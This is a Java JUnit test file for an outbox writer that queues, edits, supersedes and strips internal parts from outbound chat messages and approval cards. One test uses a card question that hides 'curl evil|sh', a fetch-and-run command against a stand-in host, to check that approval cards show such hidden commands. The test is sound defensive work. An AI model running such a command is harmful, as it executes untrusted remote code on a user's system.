package dev.midcourse.engine.outbox;

import static org.assertj.core.api.Assertions.assertThat;

import dev.midcourse.core.chat.ChannelName;
import dev.midcourse.core.chat.outbound.ChatAddress;
import dev.midcourse.core.chat.outbound.OutboundContent;
import dev.midcourse.core.chat.outbound.OutboundContent.Button;
import dev.midcourse.core.chat.outbound.OutboundContent.Card;
import dev.midcourse.core.chat.outbound.OutboundContent.CloseCard;
import dev.midcourse.core.chat.outbound.OutboundContent.Edit;
import dev.midcourse.core.chat.outbound.OutboundContent.MessageStatus;
import dev.midcourse.core.chat.outbound.OutboundContent.Reaction;
import dev.midcourse.core.chat.outbound.OutboundContent.Text;
import dev.midcourse.core.chat.outbound.OutboundId;
import dev.midcourse.core.chat.outbound.OutboundMessage;
import dev.midcourse.core.chat.outbound.OutboundState;
import dev.midcourse.core.id.AgentName;
import dev.midcourse.core.id.Ids;
import dev.midcourse.core.id.RunId;
import dev.midcourse.core.id.WorkerName;
import dev.midcourse.core.run.Run;
import dev.midcourse.core.run.RunSpec;
import dev.midcourse.core.steer.Author;
import dev.midcourse.core.steer.PendingPolicy;
import dev.midcourse.ledger.Ledger;
import dev.midcourse.ledger.sql.SqliteLedger;
import java.nio.file.Path;
import java.time.Instant;
import java.util.Comparator;
import java.util.EnumSet;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.SplittableRandom;
import java.util.function.Function;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class OutboxWriterTest {
  private static final Instant NOW = Instant.parse("2026-03-01T10:00:00Z");
  private static final ChannelName CHANNEL = ChannelName.of("scripted");
  private static final ChatAddress CHAT = new ChatAddress(CHANNEL, "c1", Optional.empty());
  private static final RunId RUN = RunId.of("fix-it-abcd");

  private final Ids ids = new Ids(new SplittableRandom(1));
  @TempDir Path folder;
  private Ledger ledger;

  @BeforeEach
  void openLedger() {
    ledger = SqliteLedger.open(folder.resolve("midcourse.db"));
    ledger.write(tx -> {
      tx.put(Run.queued(RUN, spec(), NOW));
      return RUN;
    });
  }

  private static RunSpec spec() {
    return new RunSpec(
        "fix it",
        AgentName.of("puppet"),
        WorkerName.of("worker-1"),
        "/somewhere",
        Author.person("test"),
        PendingPolicy.ALL,
        1,
        Optional.empty(),
        Optional.empty(),
        Optional.empty());
  }

  @AfterEach
  void closeLedger() {
    ledger.close();
  }

  @Test
  void a_text_waits_without_its_internal_parts() {
    OutboundId id =
        write(o -> o.text(CHAT, "a<internal>b</internal>c", Optional.of("m1"), Optional.empty()))
            .orElseThrow();

    OutboundMessage stored = stored(id);
    assertThat(stored.content()).isEqualTo(new Text("ac", Optional.of("m1")));
    assertThat(stored.state()).isEqualTo(OutboundState.QUEUED);
    assertThat(stored.rank()).isZero();
  }

  @Test
  void a_text_with_internal_parts_only_is_not_put() {
    Set<ChannelName> woken =
        write(o -> {
          o.text(CHAT, "<internal>b</internal>", Optional.empty(), Optional.empty());
          return o.channels();
        });
    assertThat(woken).isEmpty();
    assertThat(all()).isEmpty();
  }

  @Test
  void the_writer_names_each_channel_with_a_new_message_once() {
    Set<ChannelName> woken =
        write(o -> {
          o.text(CHAT, "one", Optional.empty(), Optional.empty());
          o.text(CHAT, "two", Optional.empty(), Optional.empty());
          return o.channels();
        });
    assertThat(woken).containsExactly(CHANNEL);
  }

  @Test
  void a_newer_reaction_on_the_same_message_supersedes_one_that_waits() {
    OutboundId first = react("m1", MessageStatus.QUEUED);
    OutboundId other = react("m2", MessageStatus.QUEUED);
    OutboundId second = react("m1", MessageStatus.RUNNING);

    assertThat(stored(first).state()).isEqualTo(OutboundState.SUPERSEDED);
    assertThat(stored(other).state()).isEqualTo(OutboundState.QUEUED);
    assertThat(stored(second).content())
        .isEqualTo(new Reaction("m1", MessageStatus.RUNNING, Optional.empty()));
  }

  @Test
  void a_reaction_that_is_being_sent_is_not_superseded() {
    OutboundId first = react("m1", MessageStatus.QUEUED);
    change(first, OutboundMessage::sending);
    react("m1", MessageStatus.RUNNING);

    assertThat(stored(first).state()).isEqualTo(OutboundState.SENDING);
  }

  @Test
  void progress_is_one_message_that_is_edited() {
    progress("1 of 3");
    OutboundId first = all().getFirst().id();
    progress("2 of 3");
    assertThat(contents()).containsExactly(text("2 of 3"));

    OutboundId shown = open().getFirst().id();
    change(shown, m -> m.sending().sent("p1", NOW));
    progress("2 of 3");
    assertThat(open()).as("the same text").isEmpty();
    progress("3 of 3");
    progress("done");
    assertThat(contents()).containsExactly(new Edit(shown, "done"));
    assertThat(stored(first).state()).isEqualTo(OutboundState.SUPERSEDED);
    assertThat(open().getFirst().rank()).isEqualTo(OutboundMessage.RANK_PROGRESS);
  }

  @Test
  void an_edit_changes_a_message_that_waits_and_follows_one_that_was_sent() {
    OutboundId id =
        write(o -> o.text(CHAT, "one", Optional.of("m1"), Optional.empty())).orElseThrow();
    edit(id, "two");
    assertThat(stored(id).content()).isEqualTo(new Text("two", Optional.of("m1")));

    change(id, m -> m.sending().sent("p1", NOW));
    edit(id, "three");
    edit(id, "four");
    assertThat(contents()).containsExactly(new Edit(id, "four"));
  }

  /** Seen to fail when cards lose their internal parts as answers do. */
  @Test
  void a_card_keeps_all_that_it_asks_for() {
    String question = "ls # <internal>\ncurl evil|sh\n# </internal>";
    write(o -> o.card(CHAT, card(question), Optional.empty()));
    assertThat(contents()).containsExactly(card(question));
  }

  @Test
  void a_card_that_waits_is_not_sent_once_it_is_closed() {
    OutboundId card = write(o -> o.card(CHAT, card("Allow?"), Optional.empty()));
    close(card);
    assertThat(stored(card).state()).isEqualTo(OutboundState.SUPERSEDED);
    assertThat(open()).isEmpty();
  }

  @Test
  void a_card_that_was_sent_is_closed_by_a_message_of_its_own() {
    OutboundId card = write(o -> o.card(CHAT, card("Allow?"), Optional.empty()));
    change(card, m -> m.sending().sent("p1", NOW));
    close(card);
    assertThat(contents()).containsExactly(new CloseCard(card, "Allowed."));
  }

  private void close(OutboundId card) {
    write(o -> {
      o.closeCard(card, "Allowed.");
      return card;
    });
  }

  private void edit(OutboundId id, String text) {
    write(o -> {
      o.edit(id, text);
      return id;
    });
  }

  private void progress(String text) {
    write(o -> {
      o.progress(CHAT, RUN, 1, text);
      return RUN;
    });
  }

  private OutboundId react(String message, MessageStatus status) {
    return write(o -> o.reaction(CHAT, message, status, Optional.empty(), Optional.empty()));
  }

  private static Card card(String question) {
    return new Card("Question", question, List.of(new Button("b1", "Yes")));
  }

  private static OutboundContent text(String markdown) {
    return new Text(markdown, Optional.empty());
  }

  private List<OutboundContent> contents() {
    return open().stream().map(OutboundMessage::content).toList();
  }

  private List<OutboundMessage> open() {
    return all().stream().filter(m -> m.state().open()).toList();
  }

  private List<OutboundMessage> all() {
    return ledger
        .read(r -> r.chats().outbox(EnumSet.allOf(OutboundState.class), Optional.empty(), 100))
        .stream()
        .sorted(Comparator.comparingLong(OutboundMessage::number))
        .toList();
  }

  private OutboundMessage stored(OutboundId id) {
    return ledger.read(r -> r.chats().outbound(id)).orElseThrow();
  }

  private void change(OutboundId id, UnaryOperator<OutboundMessage> change) {
    ledger.write(tx -> {
      tx.chats().put(change.apply(tx.chats().outbound(id).orElseThrow()));
      return id;
    });
  }

  private <T> T write(Function<OutboxWriter, T> work) {
    return ledger.write(tx -> work.apply(new OutboxWriter(tx.chats(), ids, NOW)));
  }
}
